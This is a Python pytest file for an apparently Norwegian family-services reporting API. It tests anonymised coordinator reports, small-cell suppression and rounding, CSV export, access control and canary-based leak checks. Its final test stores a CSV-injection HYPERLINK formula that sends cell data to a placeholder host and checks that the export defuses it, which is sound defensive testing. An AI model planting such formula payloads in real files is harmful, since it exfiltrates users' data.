"""Coordinators read anonymised reports: counts from structured fields, small cells hidden."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app.config import Settings
from app.models import Barrier
from app.models.enums import BarrierCategory, BarrierStatus, ResponsibleLevel, Role
from tests.factories import auth_headers, build_world, make_unit, make_user

API = "/api/v1"
CANARY = "KANARIFUGL-7f3a"

Json = dict[str, Any]


class Office:
    """A caseworker and a coordinator, who make and read data only through the API."""

    def __init__(self, client: TestClient, session: Session, settings: Settings) -> None:
        unit = make_unit(session)
        self.client = client
        self.caseworker_user = make_user(session, units=[unit])
        self.caseworker = auth_headers(session, self.caseworker_user, settings)
        self.coordinator = auth_headers(
            session, make_user(session, role=Role.coordinator, units=[unit]), settings
        )
        session.commit()

    def family_with_needs(
        self, municipality: str, domains: list[str], *, name: str = "Familien Test"
    ) -> None:
        family = self.client.post(
            f"{API}/families",
            headers=self.caseworker,
            json={
                "display_name": name,
                "municipality_code": municipality,
                "language": "nb",
                "household": {"adults": 1, "children_birth_years": [2016], "single_parent": True},
            },
        )
        assert family.status_code == 201, family.text
        canvas = self.client.post(
            f"{API}/families/{family.json()['id']}/canvases",
            headers=self.caseworker,
            json={"template_key": "familie"},
        )
        assert canvas.status_code == 201, canvas.text
        for domain in domains:
            need = self.client.post(
                f"{API}/canvases/{canvas.json()['id']}/needs",
                headers=self.caseworker,
                json={"domain": domain, "text": f"Vi trenger hjelp {CANARY}", "priority": 1},
            )
            assert need.status_code == 201, need.text

    def report(self, path: str, **params: str) -> Json:
        response = self.client.get(f"{API}/reports/{path}", headers=self.coordinator, params=params)
        assert response.status_code == 200, response.text
        body: Json = response.json()
        return body


@pytest.fixture
def office(client: TestClient, session: Session, settings: Settings) -> Office:
    return Office(client, session, settings)


def _cells(body: Json) -> dict[tuple[str, str], Json]:
    return {(row["domain"], row["municipality_code"]): row for row in body["rows"]}


def _seed_needs(office: Office) -> None:
    # Families with one need each, per domain (rows) and municipality (columns):
    #            3107  3105  3101
    #   bolig       6     2     5
    #   okonomi     6     6     5
    #   helse       7     7     6
    # The cheapest cells to hide with bolig/3105 are bolig/3101, okonomi/3101 and okonomi/3105.
    seed = {"3107": (6, 6, 7), "3105": (2, 6, 7), "3101": (5, 5, 6)}
    for municipality, counts in seed.items():
        for domain, count in zip(("bolig", "okonomi", "helse"), counts, strict=True):
            for _ in range(count):
                office.family_with_needs(municipality, [domain])


def rounded(true: int, base: int = 5) -> set[int]:
    """What a true count may be published as: itself when a multiple of the base, else the
    multiple just below or just above it (app/reports/protection.py)."""
    below = true - true % base
    return {true} if below == true else {below, below + base}


def test_need_pattern_report_publishes_large_cells_and_hides_small_ones(office: Office) -> None:
    _seed_needs(office)

    body = office.report("needs", group_by="domain,municipality")

    assert body["k"] == 5
    cells = _cells(body)
    bolig = cells[("bolig", "3107")]
    assert bolig["families"] in rounded(6)
    # One cell key for the cell: six families with a need each are six needs, shown alike.
    assert bolig == {
        "domain": "bolig",
        "municipality_code": "3107",
        "families": bolig["families"],
        "needs": bolig["families"],
        "suppressed": False,
    }
    assert cells[("bolig", "3105")]["families"] is None
    assert cells[("bolig", "3105")]["needs"] is None
    assert cells[("bolig", "3105")]["suppressed"] is True
    # Only the small cell is hidden: rounding, not more hidden cells, keeps it from being
    # worked out from its row and column.
    assert [key for key, row in cells.items() if row["suppressed"]] == [("bolig", "3105")]
    assert cells[("helse", "3107")]["families"] in rounded(7)
    assert cells[("okonomi", "3101")]["families"] == 5
    row_totals = {row["domain"]: row for row in body["row_totals"]}
    assert row_totals["bolig"]["families"] in rounded(13)
    assert row_totals["helse"]["families"] == 20
    column_totals = {row["municipality_code"]: row for row in body["column_totals"]}
    assert column_totals["3105"]["families"] == 15
    assert body["total"] == {"families": 50, "needs": 50, "suppressed": False}
    shown = [row[m] for row in body["rows"] for m in ("families", "needs") if row[m] is not None]
    assert all(value % 5 == 0 for value in shown)


def test_the_same_question_gets_the_same_numbers_however_it_is_asked(office: Office) -> None:
    _seed_needs(office)

    two_way = office.report("needs", group_by="domain,municipality")
    again = office.report("needs", group_by="domain,municipality")
    one_way = office.report("needs", group_by="domain")
    turned = office.report("needs", group_by="municipality,domain")
    wide = office.report("needs", group_by="domain,municipality", **{"from": "2020", "to": "2100"})

    assert again == two_way
    assert {k: v for k, v in wide.items() if k not in ("from", "to")} == {
        k: v for k, v in two_way.items() if k not in ("from", "to")
    }
    by_domain = {row["domain"]: row["families"] for row in one_way["rows"]}
    assert by_domain == {row["domain"]: row["families"] for row in two_way["row_totals"]}
    assert by_domain == {row["domain"]: row["families"] for row in turned["column_totals"]}
    assert {(r["domain"], r["municipality_code"]): r["families"] for r in turned["rows"]} == {
        key: row["families"] for key, row in _cells(two_way).items()
    }


def test_csv_holds_the_same_suppressed_table(office: Office) -> None:
    _seed_needs(office)
    body = office.report("needs", group_by="domain,municipality")

    response = office.client.get(
        f"{API}/reports/needs.csv",
        headers=office.coordinator,
        params={"group_by": "domain,municipality", "from": "2020", "to": "2100"},
    )

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="duk-needs-domain-municipality-2020-2100.csv"'
    )
    lines = list(csv.DictReader(io.StringIO(response.text)))
    assert list(lines[0]) == [
        "table",
        "domain",
        "municipality_code",
        "families",
        "needs",
        "suppressed",
    ]
    by_cell = {(line["domain"], line["municipality_code"]): line for line in lines}
    for (domain, municipality), row in _cells(body).items():
        line = by_cell[(domain, municipality)]
        assert line["suppressed"] == ("true" if row["suppressed"] else "false")
        assert line["families"] == ("" if row["families"] is None else str(row["families"]))
    assert by_cell[("total", "total")]["families"] == "50"


def test_reports_are_for_coordinators_only(
    client: TestClient, session: Session, settings: Settings
) -> None:
    world = build_world(session, settings)
    session.commit()
    for persona in ("lead", "admin", "same_unit"):
        for path in ("needs", "gaps.csv", "outcomes", "barriers.csv"):
            response = client.get(f"{API}/reports/{path}", headers=world.headers[persona])
            assert response.status_code == 403, (persona, path, response.text)
    assert client.get(f"{API}/reports/needs").status_code == 401


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("needs", {"group_by": "display_name"}, "group_by"),
        ("needs", {"group_by": "domain,municipality,period"}, "group_by"),
        ("needs", {"group_by": "domain,domain"}, "group_by"),
        ("gaps", {"group_by": "domain,municipality"}, "group_by"),
        ("outcomes", {"group_by": "indicator"}, "group_by"),
        ("barriers", {"group_by": "household_type"}, "group_by"),
        ("needs", {"family_id": "x"}, "family_id"),
        ("needs.csv", {"municipality": "3107"}, "municipality"),
        ("needs", {"from": "2026-03-15"}, "from"),
        ("needs", {"to": "2026-Q5"}, "to"),
        ("needs", {"from": "2026-Q3", "to": "2026-Q2"}, "to"),
    ],
)
def test_anything_but_predefined_dimensions_and_periods_is_422(
    office: Office, path: str, params: dict[str, str], field: str
) -> None:
    response = office.client.get(f"{API}/reports/{path}", headers=office.coordinator, params=params)

    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert [error["field"] for error in response.json()["errors"]] == [field]


def test_a_period_limits_the_report_to_needs_recorded_in_it(office: Office) -> None:
    _seed_needs(office)

    this_year = office.report("needs", group_by="period")
    periods = [row["period"] for row in this_year["rows"]]
    assert len(periods) == 1
    year = periods[0][:4]
    inside = office.report("needs", group_by="domain", **{"from": year, "to": year})
    before = office.report("needs", group_by="domain", to=str(int(year) - 1))

    assert inside["total"]["families"] == 50
    assert before["rows"] == []
    assert before["total"] == {"families": 0, "needs": 0, "suppressed": False}


def test_reports_hold_no_free_text_but_approved_barrier_texts(
    office: Office, session: Session
) -> None:
    _seed_needs(office)
    office.family_with_needs("3118", ["bolig", "fritid"], name=f"Familien {CANARY}")
    approved = "Bostøtte tar for lang tid å behandle for familier i krise."
    for status, text in (
        (BarrierStatus.pending, f"Ventende {CANARY}"),
        (BarrierStatus.rejected, f"Avvist {CANARY}"),
        (BarrierStatus.approved, approved),
    ):
        session.add(
            Barrier(
                category=BarrierCategory.routine,
                domain="bolig",
                responsible_level=ResponsibleLevel.national,
                text=text,
                municipality_code="3107",
                status=status,
                created_by_id=office.caseworker_user.id,
            )
        )
    session.commit()

    documents = []
    for name in ("needs", "gaps", "outcomes", "barriers"):
        for suffix in ("", ".csv"):
            response = office.client.get(
                f"{API}/reports/{name}{suffix}", headers=office.coordinator
            )
            assert response.status_code == 200, response.text
            documents.append(response.text)

    assert all(CANARY not in document for document in documents)
    barriers = office.report("barriers")
    assert barriers["texts"] == [
        {
            "category": "routine",
            "domain": "bolig",
            "responsible_level": "national",
            "text": approved,
        }
    ]
    assert (
        approved
        in office.client.get(f"{API}/reports/barriers.csv", headers=office.coordinator).text
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_barrier_text_that_looks_like_a_formula_is_plain_text_in_the_csv(
    office: Office, session: Session, start: str
) -> None:
    text = f'{start}HYPERLINK("http://example.invalid/?d="&A1;"Søk her")'
    session.add(
        Barrier(
            category=BarrierCategory.routine,
            domain="bolig",
            responsible_level=ResponsibleLevel.municipal,
            text=text,
            municipality_code="3107",
            status=BarrierStatus.approved,
            created_by_id=office.caseworker_user.id,
        )
    )
    session.commit()

    download = office.client.get(f"{API}/reports/barriers.csv", headers=office.coordinator)

    assert download.status_code == 200, download.text
    [line] = [row for row in csv.DictReader(io.StringIO(download.text)) if row["table"] == "texts"]
    # A spreadsheet shows it as the words it is, and never runs it (OWASP CSV injection).
    assert line["text"] == f"'{text}"
    assert office.report("barriers")["texts"][0]["text"] == text
